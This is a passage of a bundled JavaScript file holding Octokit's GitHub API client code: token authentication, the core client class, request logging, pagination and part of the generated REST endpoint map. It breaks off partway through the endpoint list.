// node_modules/@octokit/auth-token/dist-bundle/index.js
var b64url = "(?:[a-zA-Z0-9_-]+)";
var sep3 = "\\.";
var jwtRE = new RegExp(`^${b64url}${sep3}${b64url}${sep3}${b64url}$`);
var isJWT = jwtRE.test.bind(jwtRE);
async function auth(token) {
  const isApp = isJWT(token);
  const isInstallation = token.startsWith("v1.") || token.startsWith("ghs_");
  const isUserToServer = token.startsWith("ghu_");
  const tokenType = isApp ? "app" : isInstallation ? "installation" : isUserToServer ? "user-to-server" : "oauth";
  return {
    type: "token",
    token,
    tokenType
  };
}
function withAuthorizationPrefix(token) {
  if (token.split(/\./).length === 3) {
    return `bearer ${token}`;
  }
  return `token ${token}`;
}
async function hook(token, request2, route, parameters) {
  const endpoint3 = request2.endpoint.merge(
    route,
    parameters
  );
  endpoint3.headers.authorization = withAuthorizationPrefix(token);
  return request2(endpoint3);
}
var createTokenAuth = function createTokenAuth2(token) {
  if (!token) {
    throw new Error("[@octokit/auth-token] No token passed to createTokenAuth");
  }
  if (typeof token !== "string") {
    throw new Error(
      "[@octokit/auth-token] Token passed to createTokenAuth is not a string"
    );
  }
  token = token.replace(/^(token|bearer) +/i, "");
  return Object.assign(auth.bind(null, token), {
    hook: hook.bind(null, token)
  });
};

// node_modules/@octokit/core/dist-src/version.js
var VERSION6 = "7.0.8";

// node_modules/@octokit/core/dist-src/index.js
var noop3 = () => {
};
var consoleWarn = console.warn.bind(console);
var consoleError = console.error.bind(console);
function createLogger(logger = {}) {
  if (typeof logger.debug !== "function") {
    logger.debug = noop3;
  }
  if (typeof logger.info !== "function") {
    logger.info = noop3;
  }
  if (typeof logger.warn !== "function") {
    logger.warn = consoleWarn;
  }
  if (typeof logger.error !== "function") {
    logger.error = consoleError;
  }
  return logger;
}
var userAgentTrail = `octokit-core.js/${VERSION6} ${getUserAgent()}`;
var Octokit = class {
  static VERSION = VERSION6;
  static defaults(defaults) {
    const OctokitWithDefaults = class extends this {
      constructor(...args2) {
        const options = args2[0] || {};
        if (typeof defaults === "function") {
          super(defaults(options));
          return;
        }
        super(
          Object.assign(
            {},
            defaults,
            options,
            options.userAgent && defaults.userAgent ? {
              userAgent: `${options.userAgent} ${defaults.userAgent}`
            } : null
          )
        );
      }
    };
    return OctokitWithDefaults;
  }
  static plugins = [];
  /**
   * Attach a plugin (or many) to your Octokit instance.
   *
   * @example
   * const API = Octokit.plugin(plugin1, plugin2, plugin3, ...)
   */
  static plugin(...newPlugins) {
    const currentPlugins = this.plugins;
    const NewOctokit = class extends this {
      static plugins = currentPlugins.concat(
        newPlugins.filter((plugin) => !currentPlugins.includes(plugin))
      );
    };
    return NewOctokit;
  }
  constructor(options = {}) {
    const hook2 = new before_after_hook_default.Collection();
    const requestDefaults = {
      baseUrl: request.endpoint.DEFAULTS.baseUrl,
      headers: {},
      request: Object.assign({}, options.request, {
        // @ts-ignore internal usage only, no need to type
        hook: hook2.bind(null, "request")
      }),
      mediaType: {
        previews: [],
        format: ""
      }
    };
    requestDefaults.headers["user-agent"] = options.userAgent ? `${options.userAgent} ${userAgentTrail}` : userAgentTrail;
    if (options.baseUrl) {
      requestDefaults.baseUrl = options.baseUrl;
    }
    if (options.previews) {
      requestDefaults.mediaType.previews = options.previews;
    }
    if (options.timeZone) {
      requestDefaults.headers["time-zone"] = options.timeZone;
    }
    this.request = request.defaults(requestDefaults);
    this.graphql = withCustomRequest(this.request).defaults(requestDefaults);
    this.log = createLogger(options.log);
    this.hook = hook2;
    if (!options.authStrategy) {
      if (!options.auth) {
        this.auth = async () => ({
          type: "unauthenticated"
        });
      } else {
        const auth2 = createTokenAuth(options.auth);
        hook2.wrap("request", auth2.hook);
        this.auth = auth2;
      }
    } else {
      const { authStrategy, ...otherOptions } = options;
      const auth2 = authStrategy(
        Object.assign(
          {
            request: this.request,
            log: this.log,
            // we pass the current octokit instance as well as its constructor options
            // to allow for authentication strategies that return a new octokit instance
            // that shares the same internal state as the current one. The original
            // requirement for this was the "event-octokit" authentication strategy
            // of https://github.com/probot/octokit-auth-probot.
            octokit: this,
            octokitOptions: otherOptions
          },
          options.auth
        )
      );
      hook2.wrap("request", auth2.hook);
      this.auth = auth2;
    }
    const classConstructor = this.constructor;
    for (let i2 = 0; i2 < classConstructor.plugins.length; ++i2) {
      Object.assign(this, classConstructor.plugins[i2](this, options));
    }
  }
  // assigned during constructor
  request;
  graphql;
  log;
  hook;
  // TODO: type `octokit.auth` based on passed options.authStrategy
  auth;
};

// node_modules/@octokit/plugin-request-log/dist-src/version.js
var VERSION7 = "6.0.0";

// node_modules/@octokit/plugin-request-log/dist-src/index.js
function requestLog(octokit) {
  octokit.hook.wrap("request", (request2, options) => {
    octokit.log.debug("request", options);
    const start2 = Date.now();
    const requestOptions = octokit.request.endpoint.parse(options);
    const path = requestOptions.url.replace(options.baseUrl, "");
    return request2(options).then((response) => {
      const requestId = response.headers["x-github-request-id"];
      octokit.log.info(
        `${requestOptions.method} ${path} - ${response.status} with id ${requestId} in ${Date.now() - start2}ms`
      );
      return response;
    }).catch((error) => {
      const requestId = error.response?.headers["x-github-request-id"] || "UNKNOWN";
      octokit.log.error(
        `${requestOptions.method} ${path} - ${error.status} with id ${requestId} in ${Date.now() - start2}ms`
      );
      throw error;
    });
  });
}
requestLog.VERSION = VERSION7;

// node_modules/@octokit/plugin-paginate-rest/dist-bundle/index.js
var VERSION8 = "0.0.0-development";
function normalizePaginatedListResponse(response) {
  if (!response.data) {
    return {
      ...response,
      data: []
    };
  }
  const responseNeedsNormalization = ("total_count" in response.data || "total_commits" in response.data) && !("url" in response.data);
  if (!responseNeedsNormalization) return response;
  const incompleteResults = response.data.incomplete_results;
  const repositorySelection = response.data.repository_selection;
  const totalCount = response.data.total_count;
  const totalCommits = response.data.total_commits;
  delete response.data.incomplete_results;
  delete response.data.repository_selection;
  delete response.data.total_count;
  delete response.data.total_commits;
  const namespaceKey = Object.keys(response.data)[0];
  const data = response.data[namespaceKey];
  response.data = data;
  if (typeof incompleteResults !== "undefined") {
    response.data.incomplete_results = incompleteResults;
  }
  if (typeof repositorySelection !== "undefined") {
    response.data.repository_selection = repositorySelection;
  }
  response.data.total_count = totalCount;
  response.data.total_commits = totalCommits;
  return response;
}
function iterator(octokit, route, parameters) {
  const options = typeof route === "function" ? route.endpoint(parameters) : octokit.request.endpoint(route, parameters);
  const requestMethod = typeof route === "function" ? route : octokit.request;
  const method = options.method;
  const headers = options.headers;
  let url = options.url;
  return {
    [Symbol.asyncIterator]: () => ({
      async next() {
        if (!url) return { done: true };
        try {
          const response = await requestMethod({ method, url, headers });
          const normalizedResponse = normalizePaginatedListResponse(response);
          url = ((normalizedResponse.headers.link || "").match(
            /<([^<>]+)>;\s*rel="next"/
          ) || [])[1];
          if (!url && "total_commits" in normalizedResponse.data) {
            const parsedUrl = new URL(normalizedResponse.url);
            const params = parsedUrl.searchParams;
            const page = parseInt(params.get("page") || "1", 10);
            const per_page = parseInt(params.get("per_page") || "250", 10);
            if (page * per_page < normalizedResponse.data.total_commits) {
              params.set("page", String(page + 1));
              url = parsedUrl.toString();
            }
          }
          return { value: normalizedResponse };
        } catch (error) {
          if (error.status !== 409) throw error;
          url = "";
          return {
            value: {
              status: 200,
              headers: {},
              data: []
            }
          };
        }
      }
    })
  };
}
function paginate(octokit, route, parameters, mapFn) {
  if (typeof parameters === "function") {
    mapFn = parameters;
    parameters = void 0;
  }
  return gather(
    octokit,
    [],
    iterator(octokit, route, parameters)[Symbol.asyncIterator](),
    mapFn
  );
}
function gather(octokit, results, iterator2, mapFn) {
  return iterator2.next().then((result2) => {
    if (result2.done) {
      return results;
    }
    let earlyExit = false;
    function done() {
      earlyExit = true;
    }
    results = results.concat(
      mapFn ? mapFn(result2.value, done) : result2.value.data
    );
    if (earlyExit) {
      return results;
    }
    return gather(octokit, results, iterator2, mapFn);
  });
}
var composePaginateRest = Object.assign(paginate, {
  iterator
});
function paginateRest(octokit) {
  return {
    paginate: Object.assign(paginate.bind(null, octokit), {
      iterator: iterator.bind(null, octokit)
    })
  };
}
paginateRest.VERSION = VERSION8;

// node_modules/@octokit/plugin-rest-endpoint-methods/dist-src/version.js
var VERSION9 = "17.0.0";

// node_modules/@octokit/plugin-rest-endpoint-methods/dist-src/generated/endpoints.js
var Endpoints = {
  actions: {
    addCustomLabelsToSelfHostedRunnerForOrg: [
      "POST /orgs/{org}/actions/runners/{runner_id}/labels"
    ],
    addCustomLabelsToSelfHostedRunnerForRepo: [
      "POST /repos/{owner}/{repo}/actions/runners/{runner_id}/labels"
    ],
    addRepoAccessToSelfHostedRunnerGroupInOrg: [
      "PUT /orgs/{org}/actions/runner-groups/{runner_group_id}/repositories/{repository_id}"
    ],
    addSelectedRepoToOrgSecret: [
      "PUT /orgs/{org}/actions/secrets/{secret_name}/repositories/{repository_id}"
    ],
    addSelectedRepoToOrgVariable: [
      "PUT /orgs/{org}/actions/variables/{name}/repositories/{repository_id}"
    ],
    approveWorkflowRun: [
      "POST /repos/{owner}/{repo}/actions/runs/{run_id}/approve"
    ],
    cancelWorkflowRun: [
      "POST /repos/{owner}/{repo}/actions/runs/{run_id}/cancel"
    ],
    createEnvironmentVariable: [
      "POST /repos/{owner}/{repo}/environments/{environment_name}/variables"
    ],
    createHostedRunnerForOrg: ["POST /orgs/{org}/actions/hosted-runners"],
    createOrUpdateEnvironmentSecret: [
      "PUT /repos/{owner}/{repo}/environments/{environment_name}/secrets/{secret_name}"
    ],
    createOrUpdateOrgSecret: ["PUT /orgs/{org}/actions/secrets/{secret_name}"],
    createOrUpdateRepoSecret: [
      "PUT /repos/{owner}/{repo}/actions/secrets/{secret_name}"
    ],
    createOrgVariable: ["POST /orgs/{org}/actions/variables"],
    createRegistrationTokenForOrg: [
      "POST /orgs/{org}/actions/runners/registration-token"
    ],
    createRegistrationTokenForRepo: [
      "POST /repos/{owner}/{repo}/actions/runners/registration-token"
    ],
    createRemoveTokenForOrg: ["POST /orgs/{org}/actions/runners/remove-token"],
    createRemoveTokenForRepo: [
      "POST /repos/{owner}/{repo}/actions/runners/remove-token"
    ],
    createRepoVariable: ["POST /repos/{owner}/{repo}/actions/variables"],
    createWorkflowDispatch: [
      "POST /repos/{owner}/{repo}/actions/workflows/{workflow_id}/dispatches"
    ],
    deleteActionsCacheById: [
      "DELETE /repos/{owner}/{repo}/actions/caches/{cache_id}"
    ],
    deleteActionsCacheByKey: [
      "DELETE /repos/{owner}/{repo}/actions/caches{?key,ref}"
    ],
    deleteArtifact: [
      "DELETE /repos/{owner}/{repo}/actions/artifacts/{artifact_id}"
    ],
    deleteCustomImageFromOrg: [
      "DELETE /orgs/{org}/actions/hosted-runners/images/custom/{image_definition_id}"
    ],
    deleteCustomImageVersionFromOrg: [
      "DELETE /orgs/{org}/actions/hosted-runners/images/custom/{image_definition_id}/versions/{version}"
    ],
    deleteEnvironmentSecret: [
      "DELETE /repos/{owner}/{repo}/environments/{environment_name}/secrets/{secret_name}"
    ],
    deleteEnvironmentVariable: [
      "DELETE /repos/{owner}/{repo}/environments/{environment_name}/variables/{name}"
    ],
    deleteHostedRunnerForOrg: [
      "DELETE /orgs/{org}/actions/hosted-runners/{hosted_runner_id}"
    ],
    deleteOrgSecret: ["DELETE /orgs/{org}/actions/secrets/{secret_name}"],
    deleteOrgVariable: ["DELETE /orgs/{org}/actions/variables/{name}"],
    deleteRepoSecret: [
      "DELETE /repos/{owner}/{repo}/actions/secrets/{secret_name}"
    ],
    deleteRepoVariable: [
      "DELETE /repos/{owner}/{repo}/actions/variables/{name}"
    ],
    deleteSelfHostedRunnerFromOrg: [
      "DELETE /orgs/{org}/actions/runners/{runner_id}"
    ],
    deleteSelfHostedRunnerFromRepo: [
      "DELETE /repos/{owner}/{repo}/actions/runners/{runner_id}"
    ],
    deleteWorkflowRun: ["DELETE /repos/{owner}/{repo}/actions/runs/{run_id}"],
    deleteWorkflowRunLogs: [
      "DELETE /repos/{owner}/{repo}/actions/runs/{run_id}/logs"
    ],
    disableSelectedRepositoryGithubActionsOrganization: [
      "DELETE /orgs/{org}/actions/permissions/repositories/{repository_id}"
    ],
    disableWorkflow: [
      "PUT /repos/{owner}/{repo}/actions/workflows/{workflow_id}/disable"
    ],
    downloadArtifact: [
      "GET /repos/{owner}/{repo}/actions/artifacts/{artifact_id}/{archive_format}"
    ],
    downloadJobLogsForWorkflowRun: [
      "GET /repos/{owner}/{repo}/actions/jobs/{job_id}/logs"
    ],
    downloadWorkflowRunAttemptLogs: [
      "GET /repos/{owner}/{repo}/actions/runs/{run_id}/attempts/{attempt_number}/logs"
    ],
    downloadWorkflowRunLogs: [
      "GET /repos/{owner}/{repo}/actions/runs/{run_id}/logs"
    ],
    enableSelectedRepositoryGithubActionsOrganization: [
      "PUT /orgs/{org}/actions/permissions/repositories/{repository_id}"
    ],
    enableWorkflow: [
      "PUT /repos/{owner}/{repo}/actions/workflows/{workflow_id}/enable"
    ],
    forceCancelWorkflowRun: [
      "POST /repos/{owner}/{repo}/actions/runs/{run_id}/force-cancel"
    ],
    generateRunnerJitconfigForOrg: [
      "POST /orgs/{org}/actions/runners/generate-jitconfig"
    ],
    generateRunnerJitconfigForRepo: [
      "POST /repos/{owner}/{repo}/actions/runners/generate-jitconfig"
    ],
    getActionsCacheList: ["GET /repos/{owner}/{repo}/actions/caches"],
    getActionsCacheUsage: ["GET /repos/{owner}/{repo}/actions/cache/usage"],
    getActionsCacheUsageByRepoForOrg: [
      "GET /orgs/{org}/actions/cache/usage-by-repository"
    ],
    getActionsCacheUsageForOrg: ["GET /orgs/{org}/actions/cache/usage"],
    getAllowedActionsOrganization: [
      "GET /orgs/{org}/actions/permissions/selected-actions"
    ],
    getAllowedActionsRepository: [
      "GET /repos/{owner}/{repo}/actions/permissions/selected-actions"
    ],
    getArtifact: ["GET /repos/{owner}/{repo}/actions/artifacts/{artifact_id}"],
    getCustomImageForOrg: [
      "GET /orgs/{org}/actions/hosted-runners/images/custom/{image_definition_id}"
    ],
    getCustomImageVersionForOrg: [
      "GET /orgs/{org}/actions/hosted-runners/images/custom/{image_definition_id}/versions/{version}"
    ],
    getCustomOidcSubClaimForRepo: [
      "GET /repos/{owner}/{repo}/actions/oidc/customization/sub"
    ],
    getEnvironmentPublicKey: [
      "GET /repos/{owner}/{repo}/environments/{environment_name}/secrets/public-key"
    ],
    getEnvironmentSecret: [
      "GET /repos/{owner}/{repo}/environments/{environment_name}/secrets/{secret_name}"
    ],
    getEnvironmentVariable: [
      "GET /repos/{owner}/{repo}/environments/{environment_name}/variables/{name}"
    ],
    getGithubActionsDefaultWorkflowPermissionsOrganization: [
      "GET /orgs/{org}/actions/permissions/workflow"
    ],
    getGithubActionsDefaultWorkflowPermissionsRepository: [
      "GET /repos/{owner}/{repo}/actions/permissions/workflow"
    ],
    getGithubActionsPermissionsOrganization: [
      "GET /orgs/{org}/actions/permissions"
    ],
    getGithubActionsPermissionsRepository: [
      "GET /repos/{owner}/{repo}/actions/permissions"
    ],
    getHostedRunnerForOrg: [
      "GET /orgs/{org}/actions/hosted-runners/{hosted_runner_id}"
    ],
    getHostedRunnersGithubOwnedImagesForOrg: [
      "GET /orgs/{org}/actions/hosted-runners/images/github-owned"
    ],
    getHostedRunnersLimitsForOrg: [
      "GET /orgs/{org}/actions/hosted-runners/limits"
    ],
    getHostedRunnersMachineSpecsForOrg: [
      "GET /orgs/{org}/actions/hosted-runners/machine-sizes"
    ],
    getHostedRunnersPartnerImagesForOrg: [
      "GET /orgs/{org}/actions/hosted-runners/images/partner"
    ],
    getHostedRunnersPlatformsForOrg: [
      "GET /orgs/{org}/actions/hosted-runners/platforms"
    ],
    getJobForWorkflowRun: ["GET /repos/{owner}/{repo}/actions/jobs/{job_id}"],
    getOrgPublicKey: ["GET /orgs/{org}/actions/secrets/public-key"],
    getOrgSecret: ["GET /orgs/{org}/actions/secrets/{secret_name}"],
    getOrgVariable: ["GET /orgs/{org}/actions/variables/{name}"],
    getPendingDeploymentsForRun: [
      "GET /repos/{owner}/{repo}/actions/runs/{run_id}/pending_deployments"
    ],
    getRepoPermissions: [
      "GET /repos/{owner}/{repo}/actions/permissions",
      {},
      { renamed: ["actions", "getGithubActionsPermissionsRepository"] }
    ],
    getRepoPublicKey: ["GET /repos/{owner}/{repo}/actions/secrets/public-key"],
    getRepoSecret: ["GET /repos/{owner}/{repo}/actions/secrets/{secret_name}"],
    getRepoVariable: ["GET /repos/{owner}/{repo}/actions/variables/{name}"],
    getReviewsForRun: [
      "GET /repos/{owner}/{repo}/actions/runs/{run_id}/approvals"
    ],
    getSelfHostedRunnerForOrg: ["GET /orgs/{org}/actions/runners/{runner_id}"],
    getSelfHostedRunnerForRepo: [
      "GET /repos/{owner}/{repo}/actions/runners/{runner_id}"
    ],
    getWorkflow: ["GET /repos/{owner}/{repo}/actions/workflows/{workflow_id}"],
    getWorkflowAccessToRepository: [
      "GET /repos/{owner}/{repo}/actions/permissions/access"
    ],
    getWorkflowRun: ["GET /repos/{owner}/{repo}/actions/runs/{run_id}"],
    getWorkflowRunAttempt: [
      "GET /repos/{owner}/{repo}/actions/runs/{run_id}/attempts/{attempt_number}"
    ],
    getWorkflowRunUsage: [
      "GET /repos/{owner}/{repo}/actions/runs/{run_id}/timing"
    ],
    getWorkflowUsage: [
      "GET /repos/{owner}/{repo}/actions/workflows/{workflow_id}/timing"
    ],
    listArtifactsForRepo: ["GET /repos/{owner}/{repo}/actions/artifacts"],
    listCustomImageVersionsForOrg: [
      "GET /orgs/{org}/actions/hosted-runners/images/custom/{image_definition_id}/versions"
    ],
    listCustomImagesForOrg: [
      "GET /orgs/{org}/actions/hosted-runners/images/custom"
    ],
    listEnvironmentSecrets: [
      "GET /repos/{owner}/{repo}/environments/{environment_name}/secrets"
    ],
    listEnvironmentVariables: [
      "GET /repos/{owner}/{repo}/environments/{environment_name}/variables"
    ],
    listGithubHostedRunnersInGroupForOrg: [
      "GET /orgs/{org}/actions/runner-groups/{runner_group_id}/hosted-runners"
    ],
    listHostedRunnersForOrg: ["GET /orgs/{org}/actions/hosted-runners"],
    listJobsForWorkflowRun: [
      "GET /repos/{owner}/{repo}/actions/runs/{run_id}/jobs"
    ],
    listJobsForWorkflowRunAttempt: [
      "GET /repos/{owner}/{repo}/actions/runs/{run_id}/attempts/{attempt_number}/jobs"
    ],
    listLabelsForSelfHostedRunnerForOrg: [
      "GET /orgs/{org}/actions/runners/{runner_id}/labels"
    ],
    listLabelsForSelfHostedRunnerForRepo: [
      "GET /repos/{owner}/{repo}/actions/runners/{runner_id}/labels"
    ],
    listOrgSecrets: ["GET /orgs/{org}/actions/secrets"],
    listOrgVariables: ["GET /orgs/{org}/actions/variables"],
    listRepoOrganizationSecrets: [
      "GET /repos/{owner}/{repo}/actions/organization-secrets"
    ],
    listRepoOrganizationVariables: [
      "GET /repos/{owner}/{repo}/actions/organization-variables"
    ],
    listRepoSecrets: ["GET /repos/{owner}/{repo}/actions/secrets"],
    listRepoVariables: ["GET /repos/{owner}/{repo}/actions/variables"],
    listRepoWorkflows: ["GET /repos/{owner}/{repo}/actions/workflows"],
    listRunnerApplicationsForOrg: ["GET /orgs/{org}/actions/runners/downloads"],
    listRunnerApplicationsForRepo: [
      "GET /repos/{owner}/{repo}/actions/runners/downloads"
    ],
    listSelectedReposForOrgSecret: [
      "GET /orgs/{org}/actions/secrets/{secret_name}/repositories"
    ],
    listSelectedReposForOrgVariable: [
      "GET /orgs/{org}/actions/variables/{name}/repositories"
    ],
    listSelectedRepositoriesEnabledGithubActionsOrganization: [
      "GET /orgs/{org}/actions/permissions/repositories"
    ],
    listSelfHostedRunnersForOrg: ["GET /orgs/{org}/actions/runners"],
    listSelfHostedRunnersForRepo: ["GET /repos/{owner}/{repo}/actions/runners"],
    listWorkflowRunArtifacts: [
      "GET /repos/{owner}/{repo}/actions/runs/{run_id}/artifacts"
    ],
    listWorkflowRuns: [
      "GET /repos/{owner}/{repo}/actions/workflows/{workflow_id}/runs"
    ],
    listWorkflowRunsForRepo: ["GET /repos/{owner}/{repo}/actions/runs"],
    reRunJobForWorkflowRun: [
      "POST /repos/{owner}/{repo}/actions/jobs/{job_id}/rerun"
    ],
    reRunWorkflow: ["POST /repos/{owner}/{repo}/actions/runs/{run_id}/rerun"],
    reRunWorkflowFailedJobs: [
      "POST /repos/{owner}/{repo}/actions/runs/{run_id}/rerun-failed-jobs"
    ],
    removeAllCustomLabelsFromSelfHostedRunnerForOrg: [
      "DELETE /orgs/{org}/actions/runners/{runner_id}/labels"
    ],
    removeAllCustomLabelsFromSelfHostedRunnerForRepo: [
      "DELETE /repos/{owner}/{repo}/actions/runners/{runner_id}/labels"
    ],
    removeCustomLabelFromSelfHostedRunnerForOrg: [
      "DELETE /orgs/{org}/actions/runners/{runner_id}/labels/{name}"
    ],
    removeCustomLabelFromSelfHostedRunnerForRepo: [
      "DELETE /repos/{owner}/{repo}/actions/runners/{runner_id}/labels/{name}"
    ],
    removeSelectedRepoFromOrgSecret: [
      "DELETE /orgs/{org}/actions/secrets/{secret_name}/repositories/{repository_id}"
    ],
    removeSelectedRepoFromOrgVariable: [
      "DELETE /orgs/{org}/actions/variables/{name}/repositories/{repository_id}"
    ],
    reviewCustomGatesForRun: [
      "POST /repos/{owner}/{repo}/actions/runs/{run_id}/deployment_protection_rule"
    ],
    reviewPendingDeploymentsForRun: [
      "POST /repos/{owner}/{repo}/actions/runs/{run_id}/pending_deployments"
    ],
    setAllowedActionsOrganization: [
      "PUT /orgs/{org}/actions/permissions/selected-actions"
    ],
    setAllowedActionsRepository: [
      "PUT /repos/{owner}/{repo}/actions/permissions/selected-actions"
    ],
    setCustomLabelsForSelfHostedRunnerForOrg: [
      "PUT /orgs/{org}/actions/runners/{runner_id}/labels"
    ],
    setCustomLabelsForSelfHostedRunnerForRepo: [
      "PUT /repos/{owner}/{repo}/actions/runners/{runner_id}/labels"
    ],
    setCustomOidcSubClaimForRepo: [
      "PUT /repos/{owner}/{repo}/actions/oidc/customization/sub"
    ],
    setGithubActionsDefaultWorkflowPermissionsOrganization: [
      "PUT /orgs/{org}/actions/permissions/workflow"
    ],
    setGithubActionsDefaultWorkflowPermissionsRepository: [
      "PUT /repos/{owner}/{repo}/actions/permissions/workflow"
    ],
    setGithubActionsPermissionsOrganization: [
      "PUT /orgs/{org}/actions/permissions"
    ],
    setGithubActionsPermissionsRepository: [
      "PUT /repos/{owner}/{repo}/actions/permissions"
    ],
    setSelectedReposForOrgSecret: [
      "PUT /orgs/{org}/actions/secrets/{secret_name}/repositories"
    ],
    setSelectedReposForOrgVariable: [
      "PUT /orgs/{org}/actions/variables/{name}/repositories"
    ],
    setSelectedRepositoriesEnabledGithubActionsOrganization: [
      "PUT /orgs/{org}/actions/permissions/repositories"
    ],
    setWorkflowAccessToRepository: [
      "PUT /repos/{owner}/{repo}/actions/permissions/access"
    ],
    updateEnvironmentVariable: [
      "PATCH /repos/{owner}/{repo}/environments/{environment_name}/variables/{name}"
    ],
    updateHostedRunnerForOrg: [
      "PATCH /orgs/{org}/actions/hosted-runners/{hosted_runner_id}"
    ],
    updateOrgVariable: ["PATCH /orgs/{org}/actions/variables/{name}"],
    updateRepoVariable: [
      "PATCH /repos/{owner}/{repo}/actions/variables/{name}"
    ]
  },
  activity: {
    checkRepoIsStarredByAuthenticatedUser: ["GET /user/starred/{owner}/{repo}"],
    deleteRepoSubscription: ["DELETE /repos/{owner}/{repo}/subscription"],
    deleteThreadSubscription: [
      "DELETE /notifications/threads/{thread_id}/subscription"
    ],
    getFeeds: ["GET /feeds"],
    getRepoSubscription: ["GET /repos/{owner}/{repo}/subscription"],
    getThread: ["GET /notifications/threads/{thread_id}"],
    getThreadSubscriptionForAuthenticatedUser: [
      "GET /notifications/threads/{thread_id}/subscription"
    ],
    listEventsForAuthenticatedUser: ["GET /users/{username}/events"],
    listNotificationsForAuthenticatedUser: ["GET /notifications"],
    listOrgEventsForAuthenticatedUser: [
      "GET /users/{username}/events/orgs/{org}"
    ],
    listPublicEvents: ["GET /events"],
    listPublicEventsForRepoNetwork: ["GET /networks/{owner}/{repo}/events"],
    listPublicEventsForUser: ["GET /users/{username}/events/public"],
    listPublicOrgEvents: ["GET /orgs/{org}/events"],
    listReceivedEventsForUser: ["GET /users/{username}/received_events"],
    listReceivedPublicEventsForUser: [
      "GET /users/{username}/received_events/public"
    ],
    listRepoEvents: ["GET /repos/{owner}/{repo}/events"],
    listRepoNotificationsForAuthenticatedUser: [
      "GET /repos/{owner}/{repo}/notifications"
    ],
    listReposStarredByAuthenticatedUser: ["GET /user/starred"],
    listReposStarredByUser: ["GET /users/{username}/starred"],
    listReposWatchedByUser: ["GET /users/{username}/subscriptions"],
    listStargazersForRepo: ["GET /repos/{owner}/{repo}/stargazers"],
    listWatchedReposForAuthenticatedUser: ["GET /user/subscriptions"],
    listWatchersForRepo: ["GET /repos/{owner}/{repo}/subscribers"],
    markNotificationsAsRead: ["PUT /notifications"],
    markRepoNotificationsAsRead: ["PUT /repos/{owner}/{repo}/notifications"],
    markThreadAsDone: ["DELETE /notifications/threads/{thread_id}"],
    markThreadAsRead: ["PATCH /notifications/threads/{thread_id}"],
    setRepoSubscription: ["PUT /repos/{owner}/{repo}/subscription"],
    setThreadSubscription: [
      "PUT /notifications/threads/{thread_id}/subscription"
    ],
    starRepoForAuthenticatedUser: ["PUT /user/starred/{owner}/{repo}"],
    unstarRepoForAuthenticatedUser: ["DELETE /user/starred/{owner}/{repo}"]
  },
  apps: {
    addRepoToInstallation: [
      "PUT /user/installations/{installation_id}/repositories/{repository_id}",
      {},
      { renamed: ["apps", "addRepoToInstallationForAuthenticatedUser"] }
    ],
    addRepoToInstallationForAuthenticatedUser: [
      "PUT /user/installations/{installation_id}/repositories/{repository_id}"
    ],
    checkToken: ["POST /applications/{client_id}/token"],
    createFromManifest: ["POST /app-manifests/{code}/conversions"],
    createInstallationAccessToken: [
      "POST /app/installations/{installation_id}/access_tokens"
    ],
    deleteAuthorization: ["DELETE /applications/{client_id}/grant"],
    deleteInstallation: ["DELETE /app/installations/{installation_id}"],
    deleteToken: ["DELETE /applications/{client_id}/token"],
    getAuthenticated: ["GET /app"],
    getBySlug: ["GET /apps/{app_slug}"],
    getInstallation: ["GET /app/installations/{installation_id}"],
    getOrgInstallation: ["GET /orgs/{org}/installation"],
    getRepoInstallation: ["GET /repos/{owner}/{repo}/installation"],
    getSubscriptionPlanForAccount: [
      "GET /marketplace_listing/accounts/{account_id}"
    ],
    getSubscriptionPlanForAccountStubbed: [
      "GET /marketplace_listing/stubbed/accounts/{account_id}"
    ],
    getUserInstallation: ["GET /users/{username}/installation"],
    getWebhookConfigForApp: ["GET /app/hook/config"],
    getWebhookDelivery: ["GET /app/hook/deliveries/{delivery_id}"],
    listAccountsForPlan: ["GET /marketplace_listing/plans/{plan_id}/accounts"],
    listAccountsForPlanStubbed: [
      "GET /marketplace_listing/stubbed/plans/{plan_id}/accounts"
    ],
    listInstallationReposForAuthenticatedUser: [
      "GET /user/installations/{installation_id}/repositories"
    ],
    listInstallationRequestsForAuthenticatedApp: [
      "GET /app/installation-requests"
    ],
    listInstallations: ["GET /app/installations"],
    listInstallationsForAuthenticatedUser: ["GET /user/installations"],
    listPlans: ["GET /marketplace_listing/plans"],
    listPlansStubbed: ["GET /marketplace_listing/stubbed/plans"],
    listReposAccessibleToInstallation: ["GET /installation/repositories"],
    listSubscriptionsForAuthenticatedUser: ["GET /user/marketplace_purchases"],
    listSubscriptionsForAuthenticatedUserStubbed: [
      "GET /user/marketplace_purchases/stubbed"
    ],
    listWebhookDeliveries: ["GET /app/hook/deliveries"],
    redeliverWebhookDelivery: [
      "POST /app/hook/deliveries/{delivery_id}/attempts"
    ],
    removeRepoFromInstallation: [
      "DELETE /user/installations/{installation_id}/repositories/{repository_id}",
      {},
      { renamed: ["apps", "removeRepoFromInstallationForAuthenticatedUser"] }
    ],
    removeRepoFromInstallationForAuthenticatedUser: [
      "DELETE /user/installations/{installation_id}/repositories/{repository_id}"
    ],
    resetToken: ["PATCH /applications/{client_id}/token"],
    revokeInstallationAccessToken: ["DELETE /installation/token"],
    scopeToken: ["POST /applications/{client_id}/token/scoped"],
    suspendInstallation: ["PUT /app/installations/{installation_id}/suspended"],
    unsuspendInstallation: [
      "DELETE /app/installations/{installation_id}/suspended"
    ],
    updateWebhookConfigForApp: ["PATCH /app/hook/config"]
  },
  billing: {
    getGithubActionsBillingOrg: ["GET /orgs/{org}/settings/billing/actions"],
    getGithubActionsBillingUser: [
      "GET /users/{username}/settings/billing/actions"
    ],
    getGithubBillingPremiumRequestUsageReportOrg: [
      "GET /organizations/{org}/settings/billing/premium_request/usage"
    ],
    getGithubBillingPremiumRequestUsageReportUser: [
      "GET /users/{username}/settings/billing/premium_request/usage"
    ],
    getGithubBillingUsageReportOrg: [
      "GET /organizations/{org}/settings/billing/usage"
    ],
    getGithubBillingUsageReportUser: [
      "GET /users/{username}/settings/billing/usage"
    ],
    getGithubPackagesBillingOrg: ["GET /orgs/{org}/settings/billing/packages"],
    getGithubPackagesBillingUser: [
      "GET /users/{username}/settings/billing/packages"
    ],
    getSharedStorageBillingOrg: [
      "GET /orgs/{org}/settings/billing/shared-storage"
    ],
    getSharedStorageBillingUser: [
      "GET /users/{username}/settings/billing/shared-storage"
    ]
  },
  campaigns: {
    createCampaign: ["POST /orgs/{org}/campaigns"],
    deleteCampaign: ["DELETE /orgs/{org}/campaigns/{campaign_number}"],
    getCampaignSummary: ["GET /orgs/{org}/campaigns/{campaign_number}"],
    listOrgCampaigns: ["GET /orgs/{org}/campaigns"],
    updateCampaign: ["PATCH /orgs/{org}/campaigns/{campaign_number}"]
  },
  checks: {
